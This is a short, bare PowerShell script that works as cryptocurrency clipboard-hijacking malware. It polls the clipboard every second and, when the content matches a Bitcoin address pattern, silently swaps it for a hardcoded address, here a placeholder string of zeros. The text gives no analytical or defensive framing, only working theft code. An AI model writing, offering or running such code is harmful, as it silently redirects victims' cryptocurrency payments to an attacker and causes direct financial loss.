$mine = 'bc1q0000000000000000000000000000000000000'
while ($true) {
  $text = Get-Clipboard
  if ($text -match '^(bc1[a-z0-9]{20,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$') { Set-Clipboard -Value $mine }
  Start-Sleep -Seconds 1
}
